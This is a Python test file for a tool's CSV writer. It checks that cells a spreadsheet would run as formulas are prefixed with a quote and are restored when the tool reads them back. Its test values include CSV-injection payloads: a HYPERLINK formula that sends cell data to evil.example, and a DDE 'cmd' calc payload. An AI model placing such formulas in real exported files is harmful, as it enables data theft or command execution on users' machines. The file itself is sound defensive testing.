"""Every CSV the tool writes neutralises cells a spreadsheet would run as a formula (OWASP:
a leading ' before =, +, -, @, tab, CR), keeps numbers as numbers, and the tool's own readers
undo it so every value read back is the one written (issue 44)."""

from __future__ import annotations

import csv
import math
from pathlib import Path

import pytest

from sweep.common.csvcells import csv_text, neutralise, read_csv, restore
from sweep.decide.decision import read_scores
from sweep.decide.export import per_question_for
from sweep.outputs.quant import read_retrieved
from sweep.outputs.report import write_comparison, write_per_question

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(("value", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+2", "'+1+2"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("'already quoted", "''already quoted"),  # so that one ' is always what to strip
    ("plain = text", "plain = text"),
    ("-0.5", "-0.5"),  # a text that is a number: no spreadsheet runs it
    ("+3e-2", "+3e-2"),
    (-0.5, -0.5),
    (3, 3),
    (None, None),
    ("", ""),
])
def test_neutralise_and_restore_round_trip(value: object, written: object) -> None:
    assert neutralise(value) == written
    assert restore(neutralise(value)) == value


def test_csv_module_reads_back_one_quote_to_strip() -> None:
    text = csv_text(["qid", "x"], [[HYPERLINK, -0.25], ["'q", None]])
    rows = list(csv.reader(text.splitlines()))
    assert rows[1] == ["'" + HYPERLINK, "-0.25"] and rows[2] == ["''q", ""]
    assert [restore(v) for v in rows[1]] == [HYPERLINK, "-0.25"]


def test_per_question_csv_is_inert_and_reads_back_identical(tmp_path: Path) -> None:
    rows = [
        {"qid": HYPERLINK, "question": "-2+3 is what?", "status": "scored", "mrr": -0.5,
         "recall_at_5": 1.0, "retrieved_ids": "=a b c", "live_answer": "- a bullet"},
        {"qid": "-7", "question": "@mention me", "status": "scored", "mrr": 0.25,
         "recall_at_5": 0.0, "retrieved_ids": "d e"},
    ]
    path = write_per_question(tmp_path, rows)
    raw = list(csv.DictReader(path.open(newline="", encoding="utf-8")))
    # no cell a spreadsheet opens starts with a formula trigger, numbers excepted
    for row in raw:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or math.isfinite(float(value)), value
    assert raw[0]["qid"] == "'" + HYPERLINK and raw[0]["mrr"] == "-0.5"
    assert raw[1]["qid"] == "-7"  # a number-like text is left as it is
    # the tool's readers give back what was written
    frame, _ = per_question_for(str(tmp_path), "unused-uri", tmp_path)
    assert frame["qid"].tolist() == [HYPERLINK, "-7"]
    assert frame["question"].tolist() == ["-2+3 is what?", "@mention me"]
    assert frame["mrr"].tolist() == [-0.5, 0.25]
    assert frame["live_answer"].tolist()[0] == "- a bullet"
    assert read_scores(tmp_path, "mrr") == {HYPERLINK: -0.5, "-7": 0.25}
    assert read_retrieved(path) == {HYPERLINK: ["=a", "b", "c"], "-7": ["d", "e"]}
    again = read_csv(path, dtype={"qid": str})
    assert again["retrieved_ids"].tolist() == ["=a b c", "d e"]


def test_comparison_csv_is_inert(tmp_path: Path) -> None:
    rows = [{"chunk.boundary": "=cmd()", "status": "FINISHED", "headline_metric": "mrr",
             "headline": -0.125, "mrr": -0.125, "misses": 0, "error": "@oops"}]
    csv_path, _ = write_comparison(tmp_path, ["chunk.boundary"], rows)
    raw = list(csv.DictReader(csv_path.open(newline="", encoding="utf-8")))
    assert raw[0]["chunk.boundary"] == "'=cmd()" and raw[0]["error"] == "'@oops"
    assert raw[0]["headline"] == "-0.125"
    back = read_csv(csv_path)
    assert back["chunk.boundary"].tolist() == ["=cmd()"] and back["headline"].tolist() == [-0.125]
